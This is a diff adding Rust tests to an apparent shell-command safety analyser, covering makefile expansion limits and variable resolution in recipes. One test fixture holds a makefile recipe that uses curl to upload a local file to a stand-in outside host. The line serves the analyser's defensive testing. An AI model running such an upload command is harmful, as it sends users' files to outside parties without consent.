@@ -200,3 +200,15 @@ fn brace_expansion_is_bounded_by_its_results_not_its_groups() {
     let script = shell::walk(&format!("echo {}x,y}}", "{".repeat(5000)));
     assert!(!script.budget.spent());
 }
+
+#[test]
+fn a_makefile_that_expands_past_its_size_is_read_as_unknown() {
+    // A 10 KB value used 5,000 times would be 50 MB of recipes: the walk stops at twice the
+    // makefile's size and reports the recipes unread (a finding, never an allow).
+    let makefile = format!("H={}\nall:\n\techo {}\n", "x".repeat(10_000), "$(H)".repeat(5_000));
+    let script = shell::walk(&format!("make -f - <<'EOF'\n{makefile}EOF"));
+    assert!(script.events.iter().any(|e| e.via.contains("computed at run time")), "{:?}", script.events);
+    // Within it, the recipe runs with its variables.
+    let script = shell::walk("make -f - <<'EOF'\nH=up.example.invalid\nall:\n\t@curl -d @f https://$(H)/x\nEOF");
+    assert_eq!(script.cmds.iter().find(|c| c.name() == "curl").map(|c| c.argv.last().unwrap().text.as_str()), Some("https://up.example.invalid/x"));
+}
